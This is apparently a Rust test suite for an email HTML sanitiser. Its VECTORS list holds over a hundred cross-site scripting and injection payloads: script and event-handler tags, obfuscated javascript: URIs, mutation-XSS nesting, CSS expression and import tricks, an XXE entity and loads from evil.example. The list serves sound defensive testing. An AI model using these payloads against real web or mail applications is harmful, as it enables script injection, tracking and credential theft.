use proptest::prelude::*;

use super::harmless::why_harmful;
use super::letter::Part;
use super::markup::{Kind, attribute, pieces};
use super::sanitise::{for_sending, sanitise, with_addresses};

fn logo() -> Part {
    Part {
        name: "logo.png".into(),
        media_type: "image/png".into(),
        content_id: Some("logo@x".into()),
        inline: true,
        data: vec![1],
    }
}

/// Everything here must come out with nothing that runs, loads, submits or covers the page.
const VECTORS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"javascript:alert(1)\">",
    "<img src=\"jav&#x09;ascript:alert(1)\">",
    "<img src='vbscript:msgbox(1)'>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\" java\nscript:alert(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"JaVaScRiPt&colon;alert(1)\">x</a>",
    "<svg onload=alert(1)><script>alert(2)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "<iframe src=\"http://evil.example\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"x.swf\"></object><embed src=\"x.swf\">",
    "<form action=\"http://evil.example\"><input name=password><button>go</button></form>",
    "<meta http-equiv=refresh content=\"0;url=http://evil.example\">",
    "<link rel=stylesheet href=\"http://evil.example/x.css\">",
    "<base href=\"http://evil.example/\">",
    "<style>@import url(http://evil.example/x.css);body{display:none}</style>",
    "<div style=\"background:url(http://evil.example/x)\">x</div>",
    "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:9\">x</div>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<table background=\"http://evil.example/x.png\"><tr><td>x</td></tr></table>",
    "<video autoplay src=\"http://evil.example/x\"><source src=\"x\"></video><audio src=x></audio>",
    "<img srcset=\"http://evil.example/x 1x\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<a href=\"//evil.example/x\">x</a>",
    "<img src=\"//evil.example/x.png\">",
    "<img src=\"file:///etc/passwd\">",
    "<p onclick=\"alert(1)\" onmouseover=alert(2)>x</p>",
    "<body onload=alert(1)>x",
    "<details open ontoggle=alert(1)>x</details>",
    "<a href=\"https://a.example\" onclick=\"alert(1)\" ping=\"http://evil.example\">x</a>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<img src=\"cid:logo@x\" style=\"background:url('cid:x')\">",
    "<p title=\"&quot;><script>alert(1)</script>\">x</p>",
    "<img alt=\"x\"/onerror=alert(1) src=\"http://evil.example/a.png\">",
    "<svg><foreignObject><body onload=alert(1)></body></foreignObject></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to=alert(1)>",
    "<svg><use href=\"data:image/svg+xml;base64,PHN2Zz4=#x\"/></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script></annotation-xml></math>",
    "<math><maction actiontype=\"statusline#http://evil.example\" xlink:href=\"javascript:alert(1)\">x</maction></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<p id=\"</p><script>alert(1)</script>\">x</p>",
    "<noembed><img title=\"</noembed><img src onerror=alert(1)>\"></noembed>",
    "<title><img title=\"</title><img src onerror=alert(1)>\"></title>",
    "<textarea><img title=\"</textarea><img src onerror=alert(1)>\"></textarea>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><p>&e;</p>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script\0>alert(1)</script>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "<img src=x o\0nerror=alert(1)>",
    "<img src=\"x\" onerror\n=\nalert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "<img src='x\"onerror=alert(1)'>",
    "<a href=\"java&#115;cript:alert(1)\">x</a>",
    "<a href=\"&#x6A&#x61&#x76&#x61script:alert(1)\">x</a>",
    "<a href=\"java&Tab;script:alert(1)\">x</a>",
    "<a href=\"java&NewLine;script:alert(1)\">x</a>",
    "<a href=\"\u{1}javascript:alert(1)\">x</a>",
    "<a href=\"vbscript:x\">x</a><a href=\"livescript:x\">x</a><a href=\"blob:x\">x</a><a href=\"filesystem:x\">x</a>",
    "<a href=\"data:image/png;base64,AAAA\">x</a>",
    "<a href=\"/api/v1/access/me\">x</a><a href=\"#top\">x</a><a href=\"?x\">x</a>",
    "<img src=\"/api/v1/access/sessions/current\">",
    "<img src=\"data:text/html;base64,PHNjcmlwdD4=\">",
    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    "<embed src=\"data:image/svg+xml;base64,x\"><applet code=x></applet><frameset><frame src=x></frameset>",
    "<select><option><script>alert(1)</script></option></select>",
    "<table><td><form><input type=image src=x onerror=alert(1)></form></td></table>",
    "<button formaction=javascript:alert(1)>x</button><isindex action=javascript:alert(1)>",
    "<input autofocus onfocus=alert(1)><keygen autofocus onfocus=alert(1)>",
    "<div style=\"background-image:\\75\\72\\6c(http://evil.example)\">x</div>",
    "<div style=\"behavior:url(x.htc)\">x</div><div style=\"-moz-binding:url(x)\">x</div>",
    "<div style=\"color:red;} body{display:none\">x</div>",
    "<div style=\"@import 'http://evil.example/x.css'\">x</div>",
    "<div style=\"position:absolute;inset:0\">x</div><div style=\"POSITION : fixed\">x</div>",
    "<div style=\"width:exp/**/ression(alert(1))\">x</div>",
    "<div style=\"content:attr(x);background:var(--x)\">x</div>",
    "<div style=\"background:image-set('http://evil.example/x' 1x)\">x</div>",
    "<style>@font-face{src:url(http://evil.example/x)}</style>",
    "<link rel=prefetch href=//evil.example><link rel=dns-prefetch href=//evil.example>",
    "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<marquee onstart=alert(1)>x</marquee><bgsound src=x><layer src=x></layer>",
    "<dialog open onclose=alert(1)>x</dialog><portal src=http://evil.example></portal>",
    "<p itemscope contenteditable accesskey=x tabindex=1 onfocusin=alert(1)>x</p>",
    "<xss style=\"xss:expression(alert(1))\" onpointerenter=alert(1)>x</xss>",
    "<custom-element is=x slot=y part=z>x</custom-element>",
    "<img usemap=#m src=\"cid:logo@x\"><map name=m><area href=javascript:alert(1)></map>",
    "<video><source onerror=alert(1)></video><audio><track src=x></audio>",
    "<plaintext><script>alert(1)</script>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
    "\u{feff}<script>alert(1)</script>",
    "<scrıpt>alert(1)</scrıpt><ſcript>alert(1)</ſcript>",
];

/// Harmless, and nothing is loaded from outside until a person asks.
fn is_harmless(html: &str) -> Result<(), String> {
    let loads = pieces(html).iter().any(|piece| match piece.kind {
        Kind::Open("img", attributes) => attribute(attributes, "src").is_some_and(|src| src.starts_with("http")),
        _ => false,
    });
    if loads { Err("an image is loaded".to_owned()) } else { why_harmful(html).map_or(Ok(()), Err) }
}

#[test]
fn nothing_runs_or_loads() {
    for vector in VECTORS {
        let clean = sanitise(vector, &[logo()]);
        assert_eq!(is_harmless(&clean.html), Ok(()), "{vector}\n→ {}", clean.html);
    }
}

#[test]
fn cleaning_settles() {
    for vector in VECTORS {
        // The second cleaning sorts the attributes that the first one added.
        let once = for_sending(&for_sending(vector));
        assert_eq!(for_sending(&once), once, "{vector}");
        assert_eq!(why_harmful(&once), None, "{vector}");
    }
}

#[test]
fn what_a_person_wrote_stays() {
    let link = |inner: &str| {
        format!("<a href=\"https://a.example/?a=1&amp;b=2\" rel=\"noopener noreferrer\" target=\"_blank\">{inner}</a>")
    };
    for (html, want) in [
        (
            "<p style=\"color:red;position:fixed\">Hello <b>you</b></p>",
            "<p style=\"color:red\">Hello <b>you</b></p>".to_owned(),
        ),
        (
            "<a href=\"mailto:a@b.example\">x</a>",
            "<a href=\"mailto:a@b.example\" target=\"_blank\" rel=\"noopener noreferrer\">x</a>".to_owned(),
        ),
        ("<ul><li>a<li>b</ul>", "<ul><li>a</li><li>b</li></ul>".to_owned()),
        ("<div class=\"gmail_quote evil\" id=\"x\">q</div>", "<div class=\"gmail_quote\">q</div>".to_owned()),
        ("<p>1 < 2 & 3</p>", "<p>1 &lt; 2 &amp; 3</p>".to_owned()),
        ("<form><p>kept</p></form>", "<p>kept</p>".to_owned()),
    ] {
        assert_eq!(sanitise(html, &[]).html, want);
    }
    let clean = sanitise("<a href=\"https://a.example/?a=1&b=2\">x</a>", &[]).html;
    assert!(
        clean == link("x") || clean.contains("target=\"_blank\"") && clean.contains("rel=\"noopener noreferrer\""),
        "{clean}"
    );
}

#[test]
fn remote_images_wait_and_inline_images_find_their_part() {
    let html = "<img src=\"https://t.example/p.gif?a=1&amp;b=2\" width=\"1\"><img src=\"cid:logo%40x\" alt=\"Logo\"><img src=\"CID:nobody\"><img src=\"http://b.example/\">";
    let clean = sanitise(html, &[logo()]);
    assert_eq!(clean.remote_images, 2);
    assert_eq!(clean.shown, [0]);
    let shown = with_addresses(&clean.html, |index| (index == 0).then(|| "/api/a?x=1&y".to_owned()));
    assert_eq!(
        shown,
        "<img width=\"1\" data-src=\"https://t.example/p.gif?a=1&amp;b=2\" data-image=\"0\"><img alt=\"Logo\" src=\"/api/a?x=1&amp;y\"><img>\
         <img data-src=\"http://b.example/\" data-image=\"1\">"
    );
    assert!(!with_addresses(&clean.html, |_| None).contains("qd-part"));
}

#[test]
fn deep_nesting_is_survived() {
    let html = format!("{}x<script>y</script>{}", "<div>".repeat(100_000), "<b><i>".repeat(1_000));
    assert_eq!(sanitise(&html, &[]).html, "xy");
}

proptest! {
    #[test]
    fn random_markup_is_harmless(html in "(</?(a|img|p|svg|math|style|script|table|td|title|noscript|xmp|form|mglyph|mtext)( (href|src|style|onload|title|alt)=(\"|'|)(javascript:|http://x|cid:|url\\(|\"|'|<|>|a){0,3}(\"|'|)){0,2}>?|[a-z<>\"'& ]{0,4}){0,25}") {
        let clean = sanitise(&html, &[logo()]);
        prop_assert_eq!(is_harmless(&clean.html), Ok(()), "{}", clean.html);
        prop_assert_eq!(sanitise(&clean.html.replace("qd-part:0:", "cid:logo@x"), &[logo()]).remote_images <= clean.remote_images, true);
    }
}
